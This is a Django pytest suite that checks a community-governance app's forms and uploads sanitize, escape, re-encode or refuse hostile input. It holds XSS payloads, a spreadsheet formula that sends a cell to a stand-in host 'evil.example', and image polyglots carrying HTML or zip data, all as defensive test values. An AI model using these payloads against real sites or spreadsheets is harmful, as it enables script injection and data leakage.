"""Every form that takes free text or files, posted what people (and attackers) really send.

Each form has one row in FORMS: its page, the persona who may use it, a valid post, the free-text
field the cases write into and where that text is stored. Each text case is posted through the
test client and must answer a form error (200 or 400, never 500) with nothing stored and nothing
recorded in the audit log, or succeed (a redirect) having stored a clean text: no control,
zero-width or bidi characters (common/text.py's CleanTextField); HTML and formulas are kept as
typed, and HTML is shown escaped on the page that shows the text. The file cases post images of
extreme dimensions, empty files, non-images and polyglots to every photo field: refused with a
translated error, or re-encoded into a clean JPEG served with nosniff. Number fields take
full-width digits as the digits they are.

The world of world.py is built once per module; each test runs in a savepoint rolled back after
it, so no case sees another's.
"""

import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from datetime import timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.forms import BaseForm, BaseFormSet
from django.test import override_settings
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape
from django.utils.http import urlencode
from openpyxl import load_workbook
from PIL import Image

from roundtable.audit.models import Event
from roundtable.common.idempotency import new_key
from roundtable.meetings.actions import add_agenda_item, add_resolution, check_in
from roundtable.meetings.models import (
    ActionItem,
    AgendaItem,
    Attendance,
    Meeting,
    Minutes,
    Opinion,
    Resolution,
)
from roundtable.people.models import ConstituencyGroup, User
from roundtable.suggestions import actions as suggestion_actions
from roundtable.suggestions.models import Photo, ReferenceCounter, Step, Suggestion
from roundtable.suggestions.tests.factories import SuggestionFactory
from roundtable.votes.models import Conflict, Option, Poll
from roundtable.workdays.models import CalendarDay

from . import world as world_module

MARK = "标记Q7"  # in every accepted text, to find the row it was stored in
ZERO_WIDTH = "\u200b\u200c\u200d\ufeff\u2060"


# ------------------------------------------------------------------------------- the forms


@dataclass
class Form:
    """One form: where it is posted, by whom, and where the text written into `field` is kept."""

    url: Callable  # world → the page's URL
    persona: str  # who may use it (world.py's personas)
    data: Callable  # world → a valid post, `field` left out
    field: str  # the free-text field the cases write into (with its prefix)
    stored: tuple  # (model, attribute) the text is kept in
    max_length: int
    required: bool = True
    shown: Callable | None = None  # (world, stored row) → (persona, URL) of a page showing it


def _when(moment):
    return timezone.localtime(moment).strftime("%Y-%m-%dT%H:%M")


def _poll_data(w, **fields):
    now = timezone.now()
    return {
        "question": "是否同意在北门空地建电动车棚？", "description": "", "compound": w.compound.pk,
        "building": "", "method": "single", "max_choices": "",
        "opens_at": _when(now + timedelta(days=1)), "closes_at": _when(now + timedelta(days=15)),
        "electorate_kind": "residents_homes", "meeting_id": "", "visibility": "nothing",
        "rule": "none", "non_voter_policy": "not_counted", "policy_clause": "", "quorum": "",
        "threshold": "", "options-TOTAL_FORMS": "2", "options-INITIAL_FORMS": "0",
        "options-MIN_NUM_FORMS": "0", "options-MAX_NUM_FORMS": "20",
        "options-0-title": "甲方案", "options-1-title": "乙方案", **fields,
    }  # fmt: skip


def _meeting_data(w):
    day = timezone.localdate() + timedelta(days=9)
    return {"community": "lf", "kind": "round_table", "title": "十二月星空圆桌",
            "day": day.isoformat(), "starts": "19:00", "ends": "21:00", "place": "居民议事厅",
            "check_in_opens_before": "60"}  # fmt: skip


def _suggestion_data(w):
    return {"place": str(w.home.pk), "idempotency_key": new_key()}


def _slip_data(w):
    return {"where": "J5 1栋 301", "channel": "grid_box", "idempotency_key": new_key()}


def _resident_sees(w, row):
    return "resident", reverse("suggestions:detail", args=[row.suggestion.reference])


def _public_meeting(w, row):
    meeting = row if isinstance(row, Meeting) else row.meeting
    return "anonymous", reverse("meetings:detail", args=["lf", meeting.pk])


def _staff(name):
    return lambda w, row: ("community_worker", reverse(name, args=[row.pk]))


def _triage(action, field, **data):
    return Form(
        lambda w: reverse("suggestions:triage_item", args=[w.submitted.reference]),
        "community_worker",
        lambda w: {"action": action, **{f"{action}-{k}": v for k, v in data.items()}},
        f"{action}-{field}", (Step, "note"), 2000, shown=_resident_sees,
    )  # fmt: skip


FORMS: dict[str, Form] = {
    "suggestion": Form(
        lambda w: reverse("suggestions:new"),
        "resident",
        _suggestion_data,
        "text",
        (Suggestion, "text"),
        2000,
        shown=lambda w, row: ("resident", reverse("suggestions:detail", args=[row.reference])),
    ),
    "rating": Form(
        lambda w: reverse("suggestions:rate", args=[w.answered.reference]),
        "resident",
        lambda w: {"rating": "satisfied"},
        "comment",
        (Suggestion, "rating_comment"),
        1000,
        required=False,
        shown=lambda w, row: ("resident", reverse("suggestions:detail", args=[row.reference])),
    ),
    "triage_reject": _triage("reject", "reason"),
    "triage_answer": _triage("answer", "text"),
    "triage_dispatch_note": Form(
        lambda w: reverse("suggestions:triage_item", args=[w.submitted.reference]),
        "community_worker",
        lambda w: {"action": "dispatch", "dispatch-owner": w.company.pk},
        "dispatch-note",
        (Step, "note"),
        2000,
        required=False,
    ),
    "handling_return": Form(
        lambda w: reverse("suggestions:handle", args=[w.dispatched.reference]),
        "property_staff",
        lambda w: {"action": "return"},
        "return-reason",
        (Step, "note"),
        2000,
    ),
    "respond": Form(
        lambda w: reverse("suggestions:handle", args=[w.accepted.reference]),
        "property_staff",
        lambda w: {"action": "respond"},
        "respond-result",
        (Suggestion, "result"),
        2000,
        shown=lambda w, row: ("resident", reverse("suggestions:detail", args=[row.reference])),
    ),
    "slip": Form(
        lambda w: reverse("suggestions:slip"),
        "grid_worker",
        _slip_data,
        "text",
        (Suggestion, "text"),
        2000,
        shown=lambda w, row: (
            "community_worker",
            reverse("suggestions:triage_item", args=[row.reference]),
        ),
    ),  # fmt: skip
    "meeting_title": Form(
        lambda w: reverse("meetings:new"),
        "community_worker",
        _meeting_data,
        "title",
        (Meeting, "title"),
        200,
        shown=_public_meeting,
    ),
    "meeting_description": Form(
        lambda w: reverse("meetings:new"),
        "community_worker",
        _meeting_data,
        "description",
        (Meeting, "description"),
        2000,
        required=False,
        shown=_public_meeting,
    ),
    "meeting_place": Form(
        lambda w: reverse("meetings:new"),
        "community_worker",
        _meeting_data,
        "place",
        (Meeting, "place"),
        200,
        shown=_public_meeting,  # required without station or link
    ),
    "meeting_edit_title": Form(
        lambda w: reverse("meetings:edit", args=[w.meeting.pk]),
        "community_worker",
        _meeting_data,
        "title",
        (Meeting, "title"),
        200,
        shown=_public_meeting,
    ),
    "meeting_cancel": Form(
        lambda w: reverse("meetings:cancel", args=[w.meeting.pk]),
        "community_worker",
        lambda w: {},
        "reason",
        (Meeting, "cancel_reason"),
        500,
        shown=_public_meeting,
    ),
    "agenda_item": Form(
        lambda w: reverse("meetings:agenda", args=[w.meeting.pk]),
        "community_worker",
        lambda w: {"action": "free", "free-minutes_planned": "15"},
        "free-title",
        (AgendaItem, "title"),
        200,
        shown=lambda w, row: (
            "community_worker",
            reverse("meetings:agenda", args=[row.meeting_id]),
        ),
    ),  # fmt: skip
    "agenda_note": Form(
        lambda w: reverse("meetings:agenda", args=[w.meeting.pk]),
        "community_worker",
        lambda w: {"action": "free", "free-title": "议题", "free-minutes_planned": "15"},
        "free-note",
        (AgendaItem, "note"),
        2000,
        required=False,
        shown=lambda w, row: (
            "community_worker",
            reverse("meetings:agenda", args=[row.meeting_id]),
        ),
    ),  # fmt: skip
    "opinion": Form(
        lambda w: reverse("meetings:session", args=[w.meeting.pk]),
        "community_worker",
        lambda w: {"action": "opinion", "opinion-item": w.item.pk, "opinion-stance": "for"},
        "opinion-text",
        (Opinion, "text"),
        2000,
        shown=lambda w, row: ("community_worker", reverse("meetings:session", args=[w.meeting.pk])),
    ),  # fmt: skip
    "opinion_speaker": Form(
        lambda w: reverse("meetings:session", args=[w.meeting.pk]),
        "community_worker",
        lambda w: {
            "action": "opinion",
            "opinion-item": w.item.pk,
            "opinion-stance": "for",
            "opinion-text": "同意",
        },
        "opinion-speaker_name",
        (Opinion, "speaker_name"),
        50,
        required=False,
        shown=lambda w, row: ("community_worker", reverse("meetings:session", args=[w.meeting.pk])),
    ),  # fmt: skip
    "live_poll": Form(
        lambda w: reverse("meetings:session", args=[w.meeting.pk]),
        "community_worker",
        lambda w: {"action": "poll", "poll-minutes": "15", "poll-secret": "on"},
        "poll-question",
        (Poll, "question"),
        200,
    ),
    "walk_in": Form(
        lambda w: reverse("meetings:walk_in", args=[w.meeting.pk]),
        "community_worker",
        lambda w: {"action": "walk_in"},
        "walk_in-name",
        (Attendance, "name"),
        50,
        shown=lambda w, row: ("community_worker", reverse("meetings:walk_in", args=[w.meeting.pk])),
    ),  # fmt: skip
    "minutes": Form(
        lambda w: reverse("meetings:minutes", args=[w.meeting.pk]),
        "community_worker",
        lambda w: {"action": "save"},
        "minutes-text",
        (Minutes, "text"),
        50000,
        required=False,
    ),
    "resolution": Form(
        lambda w: reverse("meetings:minutes", args=[w.meeting.pk]),
        "community_worker",
        lambda w: {"action": "resolution"},
        "resolution-text",
        (Resolution, "text"),
        2000,
        shown=lambda w, row: ("community_worker", reverse("meetings:minutes", args=[w.meeting.pk])),
    ),  # fmt: skip
    "action_item": Form(
        lambda w: reverse("meetings:minutes", args=[w.meeting.pk]),
        "community_worker",
        lambda w: {
            "action": "action_item",
            "action-resolution": w.resolution.pk,
            "action-owner": w.company.pk,
            "action-due": (timezone.localdate() + timedelta(days=30)).isoformat(),
        },
        "action-text",
        (ActionItem, "text"),
        1800,
        shown=lambda w, row: ("community_worker", reverse("meetings:minutes", args=[w.meeting.pk])),
    ),  # fmt: skip
    "poll_question": Form(
        lambda w: reverse("votes:new"),
        "community_worker",
        _poll_data,
        "question",
        (Poll, "question"),
        200,
        shown=_staff("votes:detail"),
    ),
    "poll_description": Form(
        lambda w: reverse("votes:new"),
        "community_worker",
        _poll_data,
        "description",
        (Poll, "description"),
        5000,
        required=False,
    ),
    "poll_option": Form(
        lambda w: reverse("votes:new"),
        "community_worker",
        lambda w: {k: v for k, v in _poll_data(w).items() if k != "options-1-title"},
        "options-1-title",
        (Option, "title"),
        200,
        required=False,
        shown=lambda w, row: ("community_worker", reverse("votes:detail", args=[row.poll_id])),
    ),  # fmt: skip
    "poll_option_description": Form(
        lambda w: reverse("votes:new"),
        "community_worker",
        _poll_data,
        "options-0-description",
        (Option, "description"),
        2000,
        required=False,
        shown=lambda w, row: ("community_worker", reverse("votes:detail", args=[row.poll_id])),
    ),
    "poll_close": Form(
        lambda w: reverse("votes:close", args=[w.poll.pk]),
        "community_worker",
        lambda w: {},
        "reason",
        (Poll, "close_reason"),
        2000,
        required=False,
        shown=lambda w, row: ("anonymous", reverse("votes:results", args=["lf", row.pk])),
    ),
    "conflict_resolution": Form(
        lambda w: reverse("votes:resolve", args=[w.poll.pk, w.conflict.pk]),
        "community_worker",
        lambda w: {},
        "resolution",
        (Conflict, "resolution"),
        2000,
        shown=lambda w, row: ("community_worker", reverse("votes:conflicts", args=[row.poll_id])),
    ),  # fmt: skip
    "group_name": Form(
        lambda w: reverse("people:groups") + "?community=lf",
        "community_worker",
        lambda w: {"community": "lf"},
        "name",
        (ConstituencyGroup, "name"),
        50,
        shown=lambda w, row: ("community_worker", reverse("people:groups")),
    ),
    "group_rename": Form(
        lambda w: reverse("people:group_rename", args=[w.group.pk]),
        "community_worker",
        lambda w: {},
        "name",
        (ConstituencyGroup, "name"),
        50,
        shown=lambda w, row: ("community_worker", reverse("people:group", args=[row.pk])),
    ),
    "role_grant_name": Form(
        lambda w: reverse("people:roles") + "?community=lf",
        "community_worker",
        lambda w: {
            "community": "lf",
            "phone": "13655550001",
            "role": "volunteer",
            "scope": f"community:{w.community.pk}",
        },
        "name",
        (User, "name"),
        50,
        shown=lambda w, row: ("community_worker", reverse("people:roles")),
    ),  # fmt: skip
    "holiday_name": Form(
        lambda w: reverse("workdays:calendar"),
        "community_worker",
        lambda w: {"date": "2026-10-09", "kind": "holiday"},
        "name",
        (CalendarDay, "name"),
        30,
        required=False,
        shown=lambda w, row: ("community_worker", reverse("workdays:calendar")),
    ),
}

# The text cases: name → (what is posted, "refused" or "stored", what must be stored).
HTML = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
        '<a href="javascript:alert(1)">点我</a>', "javascript:alert(1)"]  # fmt: skip
FORMULAS = ['=HYPERLINK("http://evil.example/?a="&A1,"点我")', "+1+1", "-1+1", "@SUM(1)"]
# What is kept of the three kinds of invisible text; everything else is kept as typed.
CLEANED = f"楼道灯坏了{MARK}"
TEXTS = {
    "nul": f"楼道\x00灯坏了{MARK}",  # Django's CharField refuses it; removed like the others
    "control": f"楼道\x01灯\x0b坏\x1b了\x7f{MARK}",
    "zero_width": f"楼\u200b道\u200c灯\u200d坏\ufeff了\u2060{MARK}",
    "bidi": f"楼道\u202e灯坏了\u202c{MARK}",
    **{f"html_{i}": f"{text}{MARK}" for i, text in enumerate(HTML)},
    **{f"formula_{i}": f"{text}{MARK}" for i, text in enumerate(FORMULAS)},
}


# ------------------------------------------------------------------------------- the world


@pytest.fixture(scope="module")
def world(django_db_setup, django_db_blocker, tmp_path_factory):
    media = tmp_path_factory.mktemp("media")
    with django_db_blocker.unblock(), override_settings(MEDIA_ROOT=media):
        with transaction.atomic():
            built = world_module.build(media)
            meeting, worker = built.meeting, built.people["community_worker"]
            built.objects["item"] = add_agenda_item(meeting, by=worker, title="地胶更换")
            built.objects["resolution"] = add_resolution(meeting, by=worker, text="更换地胶")
            # A suggestion the property company took on: its staff respond to it.
            built.objects["accepted"] = accepted = SuggestionFactory(
                community=built.community, reference="LF-2026-000900", text="东门路灯不亮。",
                submitter=built.people["resident"], home=built.home, building=built.building,
                compound=built.compound, grid=built.grid,
            )  # fmt: skip
            suggestion_actions.dispatch(accepted, by=worker, owner=built.company)
            suggestion_actions.accept(accepted, by=built.people["property_staff"])
            # Under way: check-in open, 孙阿姨 checked in (a live vote's electorate).
            now = timezone.now()
            Meeting.objects.filter(pk=meeting.pk).update(
                starts_at=now - timedelta(minutes=30), ends_at=now + timedelta(hours=1)
            )
            meeting.refresh_from_db()
            check_in(meeting, by=worker, user=built.people["resident"])
            # world.py's suggestions have references of their own (LF-2026-000001…), not counted.
            ReferenceCounter.objects.create(
                community=built.community, year=timezone.localdate().year, last=1000
            )
            yield built
            transaction.set_rollback(True)


@pytest.fixture
def ask(world, db, client, settings):
    """Post (or get) as a persona; return the response."""
    settings.MEDIA_ROOT = world.media

    def ask(persona, url, data=None):
        client.logout()
        if world.people.get(persona) is not None:
            client.force_login(world.people[persona])
        return client.post(url, data) if data is not None else client.get(url)

    return ask


def _counts(form):
    model = form.stored[0]
    return Event.objects.count(), model.objects.count()


def _stored(form):
    model, attribute = form.stored
    return list(model.objects.filter(**{f"{attribute}__contains": MARK}))


def _post(ask, w, form, value, files=None):
    data = {**form.data(w), form.field: value, **(files or {})}
    return ask(form.persona, form.url(w), data)


def _refused(response):
    """The response refuses the post with a form error (never a 500, never a redirect)."""
    assert response.status_code in (200, 400), response.status_code
    assert _errors(response)


# ------------------------------------------------------------------------------- the tests


@pytest.mark.parametrize("name", FORMS)
def test_a_valid_post_succeeds(ask, world, name):
    """The row's valid post works: the cases below test the form, not a broken row."""
    form = FORMS[name]
    response = _post(ask, world, form, f"一段正常的文字{MARK}")
    assert response.status_code == 302, (response.status_code, _errors(response))
    assert [getattr(row, form.stored[1]) for row in _stored(form)] == [f"一段正常的文字{MARK}"]


@pytest.mark.parametrize("name", FORMS)
def test_oversize_text_is_refused_and_nothing_is_stored(ask, world, name):
    form = FORMS[name]
    before = _counts(form)
    response = _post(ask, world, form, MARK + "长" * 100_000)
    _refused(response)
    assert MARK + "长" * 100 in response.content.decode()  # shown again as typed
    assert _counts(form) == before and not _stored(form)


@pytest.mark.parametrize("name", FORMS)
def test_a_text_only_of_invisible_characters_is_empty(ask, world, name):
    """Refused as empty where the text is required; stored as empty where it is optional."""
    form = FORMS[name]
    before = _counts(form)
    response = _post(ask, world, form, ZERO_WIDTH * 3 + "\x0b \u202e")
    if form.required:
        _refused(response)
        assert _counts(form) == before
    else:
        assert response.status_code == 302, _errors(response)
        model, attribute = form.stored
        assert not model.objects.filter(**{f"{attribute}__regex": "[\u200b-\u200d\ufeff\u2060]"})


@pytest.mark.parametrize("case", TEXTS)
@pytest.mark.parametrize("name", FORMS)
def test_odd_text_is_stored_clean(ask, world, name, case):
    form = FORMS[name]
    value = TEXTS[case]
    response = _post(ask, world, form, value)
    assert response.status_code == 302, _errors(response)
    stored = [getattr(row, form.stored[1]) for row in _stored(form)]
    assert stored == [CLEANED if case in ("nul", "control", "zero_width", "bidi") else value]
    if case.startswith("html") and form.shown:
        # Shown as text: escaped, never as a tag or a link.
        (row,) = _stored(form)
        persona, url = form.shown(world, row)
        page = ask(persona, url)
        assert page.status_code == 200
        html = page.content.decode()
        assert escape(value) in html
        assert "<script>alert" not in html and "<img src=x" not in html
        assert 'href="javascript:' not in html


def _errors(response):
    """The errors of the forms (and formsets) the page was rendered with."""
    found = []
    for context in response.context or []:
        for value in context.flatten().values():
            values = value.values() if isinstance(value, dict) else [value]
            for candidate in values:
                if isinstance(candidate, BaseForm | BaseFormSet) and candidate.is_bound:
                    errors = candidate.errors
                    if isinstance(candidate, BaseFormSet):
                        errors = [e for e in errors if e] + list(candidate.non_form_errors())
                    if errors:
                        found.append(errors)
    return found


# ------------------------------------------------------------------------------- files


@dataclass
class PhotoForm:
    """A form with a photo field: posted with a valid text, the file in `field`."""

    url: Callable
    persona: str
    data: Callable  # world → a valid post without the file
    field: str
    photos: Callable  # world → the stored photos' queryset, newest last
    served: Callable  # (world, photo) → URL serving the photo to `persona`
    image: str = "image"  # the photo's file attribute


PHOTO_FORMS = {
    "suggestion": PhotoForm(
        lambda w: reverse("suggestions:new"), "resident",
        lambda w: {**_suggestion_data(w), "text": f"地胶破了{MARK}"}, "photos",
        lambda w: Photo.objects.filter(suggestion__text__contains=MARK),
        lambda w, p: reverse("suggestions:photo", args=[p.suggestion.reference, p.pk]),
    ),
    "slip": PhotoForm(
        lambda w: reverse("suggestions:slip"), "grid_worker",
        lambda w: {**_slip_data(w), "text": f"纸条：地胶破了{MARK}"}, "photo",
        lambda w: Photo.objects.filter(suggestion__text__contains=MARK),
        lambda w, p: reverse("suggestions:photo", args=[p.suggestion.reference, p.pk]),
    ),
    "respond": PhotoForm(
        lambda w: reverse("suggestions:handle", args=[w.accepted.reference]), "property_staff",
        lambda w: {"action": "respond", "respond-result": f"已修好{MARK}"}, "respond-photos",
        lambda w: Photo.objects.filter(suggestion__result__contains=MARK),
        lambda w, p: reverse("suggestions:photo", args=[p.suggestion.reference, p.pk]),
    ),
    "poll_option": PhotoForm(
        lambda w: reverse("votes:new"), "community_worker",
        lambda w: _poll_data(w, question=f"换哪种地胶？{MARK}"), "options-0-image",
        lambda w: Option.objects.filter(poll__question__contains=MARK).exclude(image=""),
        lambda w, o: reverse("votes:image", args=[o.poll_id, o.pk]),
    ),
}  # fmt: skip


def _image(fmt, size=(40, 30), mode="RGB"):
    buffer = io.BytesIO()
    Image.new(mode, size, "white" if mode == "RGB" else 0).save(buffer, fmt)
    return buffer.getvalue()


def _zip():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("evil.html", "<script>alert(1)</script>")
    return buffer.getvalue()


SCRIPT = b"<html><script>alert(1)</script></html>"
FILES = {  # name → (file name, a function making its bytes)
    # 400 megapixels in a few kilobytes: refused from its header, never decoded.
    "huge_png": ("huge.png", lambda: _image("PNG", (20000, 20000), mode="1")),
    "empty": ("empty.jpg", lambda: b""),
    "text_as_jpeg": ("photo.jpg", lambda: b"just some text, not a photo\n" * 10),
    "html_as_png": ("photo.png", lambda: SCRIPT),
    "gif_header_then_html": ("photo.gif", lambda: b"GIF89a\x01\x00\x01\x00" + SCRIPT),
    "jpeg_then_html": ("photo.jpg", lambda: world_module.JPEG + SCRIPT),
    "png_then_zip": ("photo.png", lambda: _image("PNG") + _zip()),
    "png_then_script": ("photo.png", lambda: _image("PNG") + SCRIPT),
}
_made = {}


def _upload(case):
    name, make = FILES[case]
    if case not in _made:
        _made[case] = make()
    return SimpleUploadedFile(name, _made[case], content_type="image/png")


@pytest.mark.parametrize("case", FILES)
@pytest.mark.parametrize("name", PHOTO_FORMS)
def test_odd_files_are_refused_or_stored_as_clean_photos(ask, world, name, case):
    form = PHOTO_FORMS[name]
    before = Event.objects.count()
    response = ask(form.persona, form.url(world), {**form.data(world), form.field: _upload(case)})
    if response.status_code != 302:  # refused: a translated error, nothing stored
        assert response.status_code in (200, 400), response.status_code
        assert _errors(response)
        assert Event.objects.count() == before and not form.photos(world).exists()
        return
    assert case not in ("huge_png", "empty", "text_as_jpeg", "html_as_png"), "accepted"
    (photo,) = form.photos(world)
    stored = getattr(photo, form.image).read()
    assert stored.startswith(b"\xff\xd8") and stored.endswith(b"\xff\xd9")  # a JPEG, re-encoded
    assert b"<script" not in stored and b"PK\x03\x04" not in stored
    served = ask(form.persona, form.served(world, photo))
    assert served.status_code == 200
    assert served["Content-Type"] == "image/jpeg"
    assert served["X-Content-Type-Options"] == "nosniff"


SPREADSHEET_FORMS = {
    "register": lambda w: reverse("people:import_register"),
    "hotline": lambda w: reverse("suggestions:hotline"),
}
SHEETS = {
    "empty": ("register.xlsx", b""),
    "html_as_xlsx": ("register.xlsx", SCRIPT),
    "html_as_csv": ("register.csv", b"\x00\x01\x02" + SCRIPT),
    "jpeg_as_xlsx": ("register.xlsx", world_module.JPEG),
    "script": ("register.html", SCRIPT),
}


@pytest.mark.parametrize("case", SHEETS)
@pytest.mark.parametrize("name", SPREADSHEET_FORMS)
def test_a_file_that_is_not_a_spreadsheet_is_refused(ask, world, name, case):
    file_name, content = SHEETS[case]
    before = Event.objects.count(), Suggestion.objects.count(), User.objects.count()
    upload = SimpleUploadedFile(file_name, content, content_type="application/octet-stream")
    response = ask("community_worker", SPREADSHEET_FORMS[name](world), {"file": upload})
    assert response.status_code in (200, 400), response.status_code
    assert _errors(response)
    assert (Event.objects.count(), Suggestion.objects.count(), User.objects.count()) == before


# ------------------------------------------------------------------------------- numbers


def test_full_width_digits_count_as_digits(ask, world):
    """A capacity, a minute count, a cost and a year typed with a Chinese keyboard's digits."""
    meeting = {**_meeting_data(world), "title": f"全角{MARK}", "capacity": "３０",
               "check_in_opens_before": "６０"}  # fmt: skip
    assert ask("community_worker", reverse("meetings:new"), meeting).status_code == 302
    stored = Meeting.objects.get(title__contains=MARK)
    assert (stored.capacity, stored.check_in_opens_before) == (30, 60)

    poll = _poll_data(world, question=f"全角{MARK}", **{"options-0-estimated_cost": "１２３.５"})
    assert ask("community_worker", reverse("votes:new"), poll).status_code == 302
    option = Option.objects.get(poll__question__contains=MARK, title="甲方案")
    assert str(option.estimated_cost) == "123.50"

    response = ask("resident", reverse("people:birth_year"), {"birth_year": "１９５８"})
    assert response.status_code == 302
    world.people["resident"].refresh_from_db()
    assert world.people["resident"].birth_year == 1958


def test_a_full_width_mobile_number_finds_its_person(ask, world):
    """The grid worker's slip: the last four digits typed full-width find 孙阿姨 (…0001)."""
    data = {**_slip_data(world), "where": "", "phone": "０００１", "text": f"全角{MARK}"}
    response = ask("grid_worker", reverse("suggestions:slip"), data)
    assert response.status_code == 302, _errors(response)
    assert Suggestion.objects.get(text__contains=MARK).submitter == world.people["resident"]

    data = {"community": "lf", "phone": "１３９ ００００ ０００２", "role": "volunteer",
            "scope": f"community:{world.community.pk}"}  # fmt: skip
    response = ask("community_worker", reverse("people:roles") + "?community=lf", data)
    assert response.status_code == 302, _errors(response)
    assert world.people["neighbour"].role_assignments.filter(role="volunteer").exists()


# ------------------------------------------------------------------------------- exports


def test_a_stored_control_character_does_not_break_the_xlsx_export(ask, world):
    """Text stored before forms cleaned it (or by the 12345 import) still exports."""
    # (PostgreSQL refuses a NUL itself; the others it stores and openpyxl refuses.)
    Suggestion.objects.filter(pk=world.submitted.pk).update(text="楼道\x01灯\x0b坏\x1b了")
    Suggestion.objects.filter(pk=world.answered.pk).update(text=FORMULAS[0])
    response = ask("community_worker", reverse("dashboards:export") + "?community=lf")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)
                                    if response.streaming else response.content))  # fmt: skip
    cells = {cell.value: cell for row in book.worksheets[0].iter_rows() for cell in row}
    assert "楼道灯坏了" in cells
    assert cells[FORMULAS[0]].data_type == "s"  # the formula stays text


def test_text_imported_from_a_12345_file_is_stored_clean(ask, world):
    """The hotline import reads its cells through the register import's reader: cleaned too."""
    content = f"楼道\x0b灯\u200b坏\u202e了\x1b<script>alert(1)</script>{MARK}"
    csv = "\n".join(["工单编号,来电时间,诉求内容,地址,诉求类别,联系电话",
                     f"GD20261120001,2026-11-20 09:30,{content},澜菲溪岸J5 1栋,,"])  # fmt: skip
    upload = SimpleUploadedFile("12345.csv", csv.encode("utf-8-sig"), content_type="text/csv")
    response = ask("community_worker", reverse("suggestions:hotline"), {"file": upload})
    assert response.status_code == 200, _errors(response)
    (stored,) = Suggestion.objects.filter(text__contains=MARK)
    assert stored.text == f"楼道灯坏了<script>alert(1)</script>{MARK}"


# ------------------------------------------------------------------------------- lookups


LOOKUPS = {  # text that names something (a sheet, a receipt): odd text finds nothing, calmly
    "oversize": "J5-" + "0" * 100_000,
    "control": "J5-\x00\x0b\x1b0001",
    "zero_width": ZERO_WIDTH * 3,
    "html": "<script>alert(1)</script>",
    "formula": '=HYPERLINK("http://evil.example/","点我")',
}


@pytest.mark.parametrize("case", LOOKUPS)
def test_a_paper_ballot_serial_of_odd_text_is_refused(ask, world, case):
    before = Event.objects.count(), world.poll.ballots.count()
    data = {"serial": LOOKUPS[case], "choice": str(world.option.pk)}
    response = ask("community_worker", reverse("votes:paper", args=[world.poll.pk]), data)
    _refused(response)
    assert "<script>alert" not in response.content.decode()
    assert (Event.objects.count(), world.poll.ballots.count()) == before


@pytest.mark.parametrize("case", LOOKUPS)
def test_a_receipt_code_of_odd_text_finds_nothing(ask, world, case):
    url = reverse("votes:results", args=["lf", world.closed.pk])
    response = ask("anonymous", url + "?" + urlencode({"code": LOOKUPS[case][:5000]}))
    assert response.status_code == 200
    assert "<script>alert" not in response.content.decode()
